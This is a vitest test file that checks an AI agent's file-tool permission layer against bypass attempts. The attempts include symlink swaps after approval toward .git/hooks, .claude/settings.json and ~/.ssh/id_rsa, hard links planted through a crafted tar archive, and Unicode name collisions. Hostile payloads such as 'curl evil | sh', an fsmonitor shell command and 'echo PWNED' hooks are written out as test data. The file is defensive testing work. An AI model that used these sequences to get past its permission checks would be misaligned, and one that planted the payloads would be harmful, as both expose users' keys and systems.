/**
 * Hostile sequences against the file tools (Read, Write, Edit, NotebookEdit,
 * Glob, Grep) around deny rules and protected paths.
 */
import fs from 'node:fs';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { afterEach, describe, expect, it } from 'vitest';
import { cleanupTmp, tmpDir, type TestApp } from './helpers.js';
import { approvedAfter, call, decisionChain, fileApp } from './helpers-files.js';

let t: TestApp | undefined;
afterEach(async () => {
  await t?.close();
  t = undefined;
  cleanupTmp();
});

const waitConfig = { permissions: { headless: 'wait' as const, askTimeoutMs: 30_000 } };

describe('a symlink swapped after the permission check toward a protected path', () => {
  it('Write: an approved new file that became a link into .git/hooks is not written there', async () => {
    t = await fileApp(waitConfig);
    const ws = t.workspace;
    execFileSync('git', ['init', '-q', ws]);
    const notes = path.join(ws, 'notes.txt');
    const hook = path.join(ws, '.git', 'hooks', 'pre-commit');
    const r = await approvedAfter(t, 'Write', { file_path: notes, content: '#!/bin/sh\necho PWNED\n' }, () => fs.symlinkSync('.git/hooks/pre-commit', notes));
    expect(fs.existsSync(hook)).toBe(false);
    expect(r.isError).toBe(true);
    expect(r.ex).toMatchObject({ status: 'failed', error_class: 'permission' });
    expect(r.text).toContain('.git/ is a protected directory');
  });

  it('Edit: a directory swapped for a link to .claude after approval leaves .claude/settings.json unchanged', async () => {
    t = await fileApp(waitConfig);
    const ws = t.workspace;
    fs.mkdirSync(path.join(ws, '.claude'));
    const settings = path.join(ws, '.claude', 'settings.json');
    fs.writeFileSync(settings, '{"permissions":{"allow":[]}}\n');
    fs.mkdirSync(path.join(ws, 'conf'));
    fs.writeFileSync(path.join(ws, 'conf', 'settings.json'), '{"permissions":{"allow":[]}}\n');
    // Both read (reading .claude is allowed); editing conf/ asks in the default mode.
    expect((await call(t, 'Read', { file_path: settings })).isError).toBe(false);
    expect((await call(t, 'Read', { file_path: path.join(ws, 'conf', 'settings.json') })).isError).toBe(false);
    const r = await approvedAfter(t, 'Edit', { file_path: path.join(ws, 'conf', 'settings.json'), old_string: '"allow":[]', new_string: '"allow":["Bash"]' }, () => {
      fs.renameSync(path.join(ws, 'conf'), path.join(ws, 'conf.old'));
      fs.symlinkSync('.claude', path.join(ws, 'conf'));
    });
    expect(r.isError).toBe(true);
    expect(r.ex).toMatchObject({ status: 'failed', error_class: 'permission' });
    expect(fs.readFileSync(settings, 'utf8')).toBe('{"permissions":{"allow":[]}}\n');
  });

  it('a symlink into .git that was there when the person approved (the ask named .git) is written through', async () => {
    t = await fileApp(waitConfig);
    const ws = t.workspace;
    execFileSync('git', ['init', '-q', ws]);
    fs.symlinkSync('.git/hooks/pre-commit', path.join(ws, 'hook'));
    const r = await approvedAfter(t, 'Write', { file_path: path.join(ws, 'hook'), content: '#!/bin/sh\nexit 0\n' }, () => undefined);
    expect(decisionChain(t, r.ex.id).find((c) => c.layer === 'tool')?.detail).toMatch(/^safety: .git\/ is a protected directory/);
    expect(r.isError, r.text).toBe(false);
    expect(fs.readFileSync(path.join(ws, '.git', 'hooks', 'pre-commit'), 'utf8')).toBe('#!/bin/sh\nexit 0\n');
  });

  it('an approved write to one file does not carry to another that an ask rule covers', async () => {
    t = await fileApp({ permissions: { ...waitConfig.permissions, ask: ['Edit(./deploy/**)'] } });
    const ws = t.workspace;
    fs.mkdirSync(path.join(ws, 'deploy'));
    const notes = path.join(ws, 'notes.txt');
    const r = await approvedAfter(t, 'Write', { file_path: notes, content: 'replicas: 0\n' }, () => fs.symlinkSync('deploy/prod.yml', notes));
    expect(r.isError).toBe(true);
    expect(r.ex).toMatchObject({ status: 'failed', error_class: 'permission' });
    expect(fs.existsSync(path.join(ws, 'deploy', 'prod.yml'))).toBe(false);
  });

  it('a protected path written by its own name, once approved, is still written', async () => {
    t = await fileApp(waitConfig);
    const ws = t.workspace;
    execFileSync('git', ['init', '-q', ws]);
    const hook = path.join(ws, '.git', 'hooks', 'pre-commit');
    const r = await approvedAfter(t, 'Write', { file_path: hook, content: '#!/bin/sh\nexit 0\n' }, () => undefined);
    expect(r.isError).toBe(false);
    expect(fs.readFileSync(hook, 'utf8')).toBe('#!/bin/sh\nexit 0\n');
  });
});

describe('a workspace whose path holds a character globs give a meaning to', () => {
  for (const name of ['a|b', '"']) {
    it(`deny rules still hold under a directory named ${name}`, async () => {
      const ws = path.join(tmpDir(), name, 'ws');
      fs.mkdirSync(path.join(ws, 'secrets'), { recursive: true });
      fs.writeFileSync(path.join(ws, '.env'), 'SECRET=hunter2\n');
      fs.writeFileSync(path.join(ws, 'secrets', 'k.pem'), 'KEY hunter2\n');
      fs.writeFileSync(path.join(ws, 'notes.txt'), 'hello\n');
      t = await fileApp({ workspace: { root: ws }, permissions: { defaultMode: 'acceptEdits', deny: ['Read(./.env)', 'Read(./secrets/**)', 'Edit(./.github/**)'] } });
      for (const f of ['.env', 'secrets/k.pem']) {
        const r = await call(t, 'Read', { file_path: path.join(ws, f) });
        expect(r.isError).toBe(true);
        expect(r.text).not.toContain('hunter2');
      }
      const g = await call(t, 'Grep', { pattern: 'hunter2', path: ws, output_mode: 'content' });
      expect(g.text).not.toContain('hunter2');
      const w = await call(t, 'Write', { file_path: path.join(ws, '.github', 'workflows', 'ci.yml'), content: 'on: push\n' });
      expect(w.isError).toBe(true);
      expect(fs.existsSync(path.join(ws, '.github'))).toBe(false);
      expect((await call(t, 'Read', { file_path: path.join(ws, 'notes.txt') })).text).toContain('hello');
    });
  }
});

describe('what Edit and Write count as read', () => {
  it('a file written under a name that differs only in Unicode normalisation is not a read of the Read-denied one', async () => {
    t = await fileApp({ permissions: { defaultMode: 'acceptEdits', deny: ['Read(./cl\u00e9.env)'] } });
    const ws = t.workspace;
    const denied = path.join(ws, 'cl\u00e9.env');
    fs.writeFileSync(denied, 'USER=bob\nSECRET=hunter2\nHOST=db\n');
    fs.utimesSync(denied, new Date(2020, 1, 1), new Date(2020, 1, 1));
    expect((await call(t, 'Read', { file_path: denied })).isError).toBe(true);
    // Another file on ext4 (names are bytes), one key in the cache (NFC-folded): the Write's record was taken for the denied file's.
    const w = await call(t, 'Write', { file_path: path.join(ws, 'cle\u0301.env'), content: 'x' });
    expect(w.isError).toBe(false);
    for (const edit of [
      { file_path: denied, old_string: 'USER=', new_string: 'USER =' },
      { file_path: denied, old_string: 'USER=', new_string: 'USER =', replace_all: true },
    ]) {
      const e = await call(t, 'Edit', edit);
      expect(e.text).not.toContain('hunter2');
      expect(e.isError).toBe(true);
    }
    const nb = await call(t, 'Write', { file_path: denied, content: 'SECRET=hunter2\n' });
    expect(nb.isError).toBe(true);
    expect(fs.readFileSync(denied, 'utf8')).toBe('USER=bob\nSECRET=hunter2\nHOST=db\n');
  });

  it('another file moved over a name read (its mtime older) is stale, and its content is not shown', async () => {
    t = await fileApp({ permissions: { defaultMode: 'acceptEdits' } });
    const ws = t.workspace;
    const notes = path.join(ws, 'notes.txt');
    fs.writeFileSync(notes, 'TODO: one\n');
    expect((await call(t, 'Read', { file_path: notes })).isError).toBe(false);
    const other = path.join(ws, 'other.txt');
    fs.writeFileSync(other, 'TODO: two\nunseen line\n');
    fs.utimesSync(other, new Date(2020, 1, 1), new Date(2020, 1, 1));
    fs.renameSync(other, notes);
    const e = await call(t, 'Edit', { file_path: notes, old_string: 'TODO:', new_string: 'DONE:' });
    expect(e.isError).toBe(true);
    expect(e.text).toContain('modified since read');
    expect(e.text).not.toContain('unseen line');
    // Read again, it is edited.
    expect((await call(t, 'Read', { file_path: notes })).isError).toBe(false);
    expect((await call(t, 'Edit', { file_path: notes, old_string: 'TODO:', new_string: 'DONE:' })).isError).toBe(false);
  });
});

describe('a repository whose .git file names a git directory of another name', () => {
  it('writing its hooks or config asks, in acceptEdits and bypassPermissions alike', async () => {
    t = await fileApp({ permissions: { defaultMode: 'bypassPermissions', allowBypass: true } });
    const ws = t.workspace;
    execFileSync('git', ['init', '-q', `--separate-git-dir=${path.join(ws, 'store')}`, ws]);
    expect(fs.readFileSync(path.join(ws, '.git'), 'utf8')).toContain('store');
    for (const mode of ['acceptEdits', 'bypassPermissions']) {
      const s = `s-${mode}`;
      const patch = await t.app.inject({ method: 'PATCH', url: `/sessions/${s}`, payload: { mode } });
      expect(patch.statusCode).toBe(200);
      for (const [f, content] of [
        ['store/hooks/pre-commit', '#!/bin/sh\necho PWNED\n'],
        ['store/config', '[core]\n\tfsmonitor = "sh -c \'echo PWNED\'"\n'],
      ] as const) {
        const before = fs.existsSync(path.join(ws, f)) ? fs.readFileSync(path.join(ws, f), 'utf8') : undefined;
        // Reading it is allowed (and what Write needs first for a file that exists).
        if (before !== undefined) expect((await call(t, 'Read', { file_path: path.join(ws, f) }, s)).isError).toBe(false);
        const r = await call(t, 'Write', { file_path: path.join(ws, f), content }, s);
        expect(r.isError).toBe(true);
        // Asked (nobody watches: headless), on the safety check's word, never allowed by the mode.
        expect(r.decision?.reason.type).toBe('headless');
        const own = decisionChain(t, r.executionId).find((c) => c.layer === 'tool');
        expect(own).toMatchObject({ outcome: 'ask' });
        expect(own?.detail).toMatch(/^safety: .*the git directory of the repository/);
        expect(fs.existsSync(path.join(ws, f)) ? fs.readFileSync(path.join(ws, f), 'utf8') : undefined).toBe(before);
      }
      // The work tree's own files are not protected.
      expect((await call(t, 'Write', { file_path: path.join(ws, `src-${mode}.txt`), content: 'ok\n' }, s)).isError).toBe(false);
    }
  });
});

describe('a repository whose .git is a symlink to a git directory elsewhere', () => {
  it('writing that directory by its own name asks in bypassPermissions', async () => {
    t = await fileApp({ permissions: { defaultMode: 'bypassPermissions', allowBypass: true } });
    const ws = t.workspace;
    const store = path.join(tmpDir(), 'repo.git');
    execFileSync('git', ['init', '-q', '--bare', store]);
    fs.symlinkSync(store, path.join(ws, '.git'));
    const hook = path.join(store, 'hooks', 'pre-commit');
    const r = await call(t, 'Write', { file_path: hook, content: '#!/bin/sh\necho PWNED\n' });
    expect(r.isError).toBe(true);
    const own = decisionChain(t, r.executionId).find((c) => c.layer === 'tool');
    expect(own?.detail).toMatch(/^safety: .*the git directory of the repository/);
    expect(fs.existsSync(hook)).toBe(false);
  });
});

describe('.claude/worktrees is not .claude/, and what lies in a worktree is still protected', () => {
  it('a workspace that is a Claude Code worktree keeps its .git, .claude and shell files protected', async () => {
    const ws = path.join(tmpDir(), 'proj', '.claude', 'worktrees', 'feature');
    fs.mkdirSync(ws, { recursive: true });
    execFileSync('git', ['init', '-q', ws]);
    t = await fileApp({ workspace: { root: ws }, permissions: { defaultMode: 'acceptEdits' } });
    for (const f of ['.git/hooks/pre-commit', '.claude/settings.json', '.bashrc', 'sub/.git/config', 'x/.mcp.json']) {
      const r = await call(t, 'Write', { file_path: path.join(ws, f), content: '#!/bin/sh\necho PWNED\n' });
      expect(r.isError, f).toBe(true);
      const own = decisionChain(t, r.executionId).find((c) => c.layer === 'tool');
      expect(own, f).toMatchObject({ outcome: 'ask' });
      expect(own?.detail, f).toMatch(/^safety: /);
      expect(fs.existsSync(path.join(ws, f)), f).toBe(false);
    }
    // The worktree's own files are edited as in any workspace.
    expect((await call(t, 'Write', { file_path: path.join(ws, 'src', 'a.ts'), content: 'export {};\n' })).isError).toBe(false);
  });

  it('in a workspace holding worktrees, their .git and .claude are protected, their sources are not', async () => {
    t = await fileApp({ permissions: { defaultMode: 'acceptEdits' } });
    const wt = path.join(t.workspace, '.claude', 'worktrees', 'wt');
    for (const f of ['.git', '.claude/settings.local.json', '.vscode/tasks.json']) {
      const r = await call(t, 'Write', { file_path: path.join(wt, f), content: 'gitdir: /tmp/evil\n' });
      expect(r.isError, f).toBe(true);
      expect(fs.existsSync(path.join(wt, f)), f).toBe(false);
    }
    expect((await call(t, 'Write', { file_path: path.join(wt, 'README.md'), content: '# wt\n' })).isError).toBe(false);
  });
});

describe('shell startup files beyond Claude Code\u2019s list', () => {
  it('.zshenv, .zlogin, .bash_login and the logout files ask, in bypassPermissions too', async () => {
    t = await fileApp({ permissions: { defaultMode: 'bypassPermissions', allowBypass: true } });
    for (const f of ['.zshenv', '.zlogin', '.zlogout', '.bash_login', '.bash_logout', 'home/u/.ZSHENV']) {
      const r = await call(t, 'Write', { file_path: path.join(t.workspace, f), content: 'curl evil | sh\n' });
      expect(r.isError, f).toBe(true);
      expect(decisionChain(t, r.executionId).find((c) => c.layer === 'tool')?.detail, f).toMatch(/^safety: .* is a protected file/);
      expect(fs.existsSync(path.join(t.workspace, f)), f).toBe(false);
    }
  });
});

/** A ustar archive (ASCII and NUL bytes only, so the Write tool can write it) of one hard link member `name` → `target`. */
function hardLinkTar(name: string, target: string): string {
  const h = Buffer.alloc(512, 0);
  const put = (off: number, s: string): void => void h.write(s, off, 'ascii');
  put(0, name);
  put(100, '0000644\0');
  put(108, '0000000\0');
  put(116, '0000000\0');
  put(124, '00000000000\0');
  put(136, '00000000000\0');
  put(148, '        ');
  put(156, '1');
  put(157, target);
  put(257, 'ustar\0');
  put(263, '00');
  let sum = 0;
  for (const b of h) sum += b;
  put(148, `${sum.toString(8).padStart(6, '0')}\0 `);
  return Buffer.concat([h, Buffer.alloc(1024, 0)]).toString('latin1');
}

describe('another name (a hard link) of one of toolexec\u2019s own files', () => {
  for (const engine of ['rg', 'js'] as const) {
  it(`an archive\u2019s hard link member to the loaded configuration is not read by Read or Grep (${engine})`, async () => {
    const root = tmpDir();
    const ws = path.join(root, 'ws');
    fs.mkdirSync(ws);
    const cfg = path.join(ws, 'toolexec.json');
    fs.writeFileSync(cfg, '{"server":{"tokens":[{"name":"ops","token":"tok-hunter2-approve","scopes":["approve"]}]}}\n');
    const { makeApp } = await import('./helpers.js');
    const { fileTools } = await import('./helpers-files.js');
    t = await makeApp({ workspace: { root: ws }, grep: { engine }, permissions: { defaultMode: 'acceptEdits', allow: ['Bash(tar:*)'] } }, { extraTools: fileTools, configFiles: [cfg] });
    expect((await call(t, 'Read', { file_path: cfg })).isError).toBe(true);
    const tar = hardLinkTar('notes.txt', 'toolexec.json');
    expect((await call(t, 'Write', { file_path: path.join(ws, 'a.tar'), content: tar })).isError).toBe(false);
    const x = await call(t, 'Bash', { command: 'tar xf a.tar' });
    expect(x.isError, x.text).toBe(false);
    const notes = path.join(ws, 'notes.txt');
    expect(fs.statSync(notes).ino).toBe(fs.statSync(cfg).ino);
    const r = await call(t, 'Read', { file_path: notes });
    expect(r.text).not.toContain('hunter2');
    expect(r.isError).toBe(true);
    for (const output_mode of ['content', 'files_with_matches'] as const) {
      const g = await call(t, 'Grep', { pattern: 'hunter2', path: ws, output_mode });
      expect(g.text).not.toContain('hunter2');
      expect(g.text).not.toContain('notes.txt');
    }
    const single = await call(t, 'Grep', { pattern: 'hunter2', path: notes, output_mode: 'content' });
    expect(single.text).not.toContain('hunter2');
  });

  it(`a hard link to a file of the data directory is not read by Read or Grep (${engine})`, async () => {
    // The data directory's entries are compared by identity too (workspace.ts serviceFileIds), not only the
    // configuration: the .gitignore toolexec writes beside a database it makes stands for its text files.
    const root = tmpDir();
    const ws = path.join(root, 'ws');
    fs.mkdirSync(ws);
    const db = path.join(root, 'data', 'toolexec.db');
    const { makeApp } = await import('./helpers.js');
    const { fileTools } = await import('./helpers-files.js');
    t = await makeApp({ workspace: { root: ws }, storage: { path: db }, grep: { engine } }, { extraTools: fileTools });
    const own = path.join(root, 'data', '.gitignore');
    expect(fs.readFileSync(own, 'utf8')).toContain('Made by toolexec');
    const alias = path.join(ws, 'ignore.txt');
    fs.linkSync(own, alias);
    const r = await call(t, 'Read', { file_path: alias });
    expect(r.isError, r.text).toBe(true);
    expect(r.text).not.toContain('Made by toolexec');
    const g = await call(t, 'Grep', { pattern: 'Made by toolexec', path: ws, output_mode: 'files_with_matches' });
    expect(g.text).not.toContain('ignore.txt');
    // What the test rests on: a file of the workspace with the same text is found.
    fs.writeFileSync(path.join(ws, 'plain.txt'), 'Made by toolexec\n');
    expect((await call(t, 'Grep', { pattern: 'Made by toolexec', path: ws, output_mode: 'files_with_matches' })).text).toContain('plain.txt');
  });
  }
});

describe('the configuration a hook framework\u2019s hook runs from', () => {
  /** The hook `pre-commit install` writes (pre-commit 3), naming the configuration it runs. */
  const shim = (config: string): string =>
    `#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\n# ID: 138fd403232d2ddd5efb44317e38bf03\n\n# start templated\nINSTALL_PYTHON=/usr/bin/python3\nARGS=(hook-impl --config=${config} --hook-type=pre-commit)\n# end templated\n`;

  it('writing .pre-commit-config.yaml asks once .git/hooks runs pre-commit from it, and not before', async () => {
    t = await fileApp({ permissions: { defaultMode: 'acceptEdits' } });
    const ws = t.workspace;
    execFileSync('git', ['init', '-q', ws]);
    const cfg = path.join(ws, '.pre-commit-config.yaml');
    const local = 'repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: sh -c "echo PWNED"\n    language: system\n';
    // No hook runs it: an ordinary file.
    expect((await call(t, 'Write', { file_path: cfg, content: 'repos: []\n' })).isError).toBe(false);
    fs.writeFileSync(path.join(ws, '.git', 'hooks', 'pre-commit'), shim('.pre-commit-config.yaml'), { mode: 0o755 });
    expect((await call(t, 'Read', { file_path: cfg })).isError).toBe(false);
    const r = await call(t, 'Edit', { file_path: cfg, old_string: 'repos: []\n', new_string: local });
    expect(r.isError).toBe(true);
    expect(decisionChain(t, r.executionId).find((c) => c.layer === 'tool')?.detail).toMatch(/^safety: .*pre-commit/);
    expect(fs.readFileSync(cfg, 'utf8')).toBe('repos: []\n');
    // The configuration the hook names, elsewhere than the default, and through core.hooksPath.
    fs.mkdirSync(path.join(ws, 'hk'));
    fs.writeFileSync(path.join(ws, 'hk', 'commit-msg'), shim('ci/hooks.yaml'), { mode: 0o755 });
    execFileSync('git', ['-C', ws, 'config', 'core.hooksPath', 'hk']);
    const w = await call(t, 'Write', { file_path: path.join(ws, 'ci', 'hooks.yaml'), content: local });
    expect(w.isError).toBe(true);
    expect(fs.existsSync(path.join(ws, 'ci', 'hooks.yaml'))).toBe(false);
  });
});

/** Outside the workspace: a harmless `readme`, a home holding `.ssh/id_rsa`, and `link` leading to the readme (for now). */
function linkToHarmless(): { out: string; home: string; link: string } {
  const out = tmpDir();
  fs.writeFileSync(path.join(out, 'readme'), 'harmless\n');
  const home = tmpDir();
  fs.mkdirSync(path.join(home, '.ssh'));
  fs.writeFileSync(path.join(home, '.ssh', 'id_rsa'), 'PRIVATE hunter2\n');
  const link = path.join(out, 'link');
  fs.symlinkSync(path.join(out, 'readme'), link);
  return { out, home, link };
}

describe('Read: a symlink swapped after the check toward a file that would have asked', () => {
  it('an approved read of one file outside the working directories does not carry to another', async () => {
    t = await fileApp(waitConfig);
    const { out, home, link } = linkToHarmless();
    const r = await approvedAfter(t, 'Read', { file_path: link }, () => {
      fs.unlinkSync(link);
      fs.symlinkSync(path.join(home, '.ssh', 'id_rsa'), link);
    });
    expect(r.text).not.toContain('hunter2');
    expect(r.isError).toBe(true);
    expect(r.ex).toMatchObject({ status: 'failed', error_class: 'permission' });
    // Unswapped, the same approved read goes through.
    fs.unlinkSync(link);
    fs.symlinkSync(path.join(out, 'readme'), link);
    expect((await approvedAfter(t, 'Read', { file_path: link }, () => undefined)).text).toContain('harmless');
  });

  it('Grep and Glob: an approved search of one directory does not carry to another', async () => {
    t = await fileApp(waitConfig);
    const out = tmpDir();
    fs.mkdirSync(path.join(out, 'docs'));
    fs.writeFileSync(path.join(out, 'docs', 'a.md'), 'nothing here\n');
    const home = tmpDir();
    fs.mkdirSync(path.join(home, '.ssh'));
    fs.writeFileSync(path.join(home, '.ssh', 'id_rsa'), 'PRIVATE hunter2\n');
    const link = path.join(out, 'link');
    const swap = (): void => {
      fs.unlinkSync(link);
      fs.symlinkSync(path.join(home, '.ssh'), link);
    };
    fs.symlinkSync(path.join(out, 'docs'), link);
    const g = await approvedAfter(t, 'Grep', { pattern: 'hunter2', path: link, output_mode: 'content' }, swap);
    expect(g.text).not.toContain('hunter2');
    expect(g.ex).toMatchObject({ status: 'failed', error_class: 'permission' });
    fs.unlinkSync(link);
    fs.symlinkSync(path.join(out, 'docs'), link);
    const l = await approvedAfter(t, 'Glob', { pattern: '*', path: link }, swap);
    expect(l.text).not.toContain('id_rsa');
    expect(l.ex).toMatchObject({ status: 'failed', error_class: 'permission' });
    // Unswapped, an approved search goes through.
    fs.unlinkSync(link);
    fs.symlinkSync(path.join(out, 'docs'), link);
    expect((await approvedAfter(t, 'Grep', { pattern: 'nothing', path: link, output_mode: 'content' }, () => undefined)).text).toContain('nothing here');
  });

  it('bypassPermissions still reads where the link leads outside the working directories', async () => {
    t = await fileApp({ permissions: { defaultMode: 'bypassPermissions', allowBypass: true } });
    const out = tmpDir();
    fs.writeFileSync(path.join(out, 'notes'), 'outside notes\n');
    fs.symlinkSync(path.join(out, 'notes'), path.join(t.workspace, 'link'));
    expect((await call(t, 'Read', { file_path: path.join(t.workspace, 'link') })).text).toContain('outside notes');
  });
});

describe('an input a PreToolUse hook rewrote, then a symlink swapped after the check', () => {
  /** A PreToolUse hook for `matcher` that replaces the call's input with `input`. */
  function rewriteHook(matcher: string, input: unknown) {
    const p = path.join(tmpDir(), 'rewrite.sh');
    fs.writeFileSync(p, `#!/bin/sh\ncat >/dev/null\nprintf '%s\\n' '${JSON.stringify({ hookSpecificOutput: { hookEventName: 'PreToolUse', updatedInput: input } })}'\n`, { mode: 0o755 });
    return { PreToolUse: [{ matcher, hooks: [{ type: 'command' as const, command: p }] }] };
  }

  it('Read: the rewritten path, approved while it led to a harmless file, is not read once it leads to ~/.ssh/id_rsa', async () => {
    const { out, home, link } = linkToHarmless();
    t = await fileApp({ ...waitConfig, hooks: rewriteHook('Read', { file_path: link }) });
    fs.writeFileSync(path.join(t.workspace, 'notes.txt'), 'notes\n');
    // The model asked for notes.txt; the hook's input (outside the working directories) is what is asked and run.
    const r = await approvedAfter(t, 'Read', { file_path: path.join(t.workspace, 'notes.txt') }, () => {
      fs.unlinkSync(link);
      fs.symlinkSync(path.join(home, '.ssh', 'id_rsa'), link);
    });
    expect(r.text).not.toContain('hunter2');
    expect(r.isError).toBe(true);
    expect(r.ex).toMatchObject({ status: 'failed', error_class: 'permission' });
    expect(r.text).toContain('would need approval (working_dir');
    // Unswapped, the hook's input, once approved, is read (the hook's input is what runs).
    fs.unlinkSync(link);
    fs.symlinkSync(path.join(out, 'readme'), link);
    expect((await approvedAfter(t, 'Read', { file_path: path.join(t.workspace, 'notes.txt') }, () => undefined)).text).toContain('harmless');
  });

  it('Write: the rewritten target, approved as a new file, is not written once a link leads it under an ask rule', async () => {
    const ws = tmpDir();
    fs.mkdirSync(path.join(ws, 'deploy'));
    const notes = path.join(ws, 'notes.txt');
    t = await fileApp({ workspace: { root: ws }, permissions: { ...waitConfig.permissions, ask: ['Edit(./deploy/**)'] }, hooks: rewriteHook('Write', { file_path: notes, content: 'replicas: 0\n' }) });
    const r = await approvedAfter(t, 'Write', { file_path: path.join(ws, 'other.txt'), content: 'x\n' }, () => fs.symlinkSync('deploy/prod.yml', notes));
    expect(r.isError, r.text).toBe(true);
    expect(r.ex).toMatchObject({ status: 'failed', error_class: 'permission' });
    expect(fs.existsSync(path.join(ws, 'deploy', 'prod.yml'))).toBe(false);
    expect(fs.existsSync(path.join(ws, 'other.txt'))).toBe(false);
  });
});
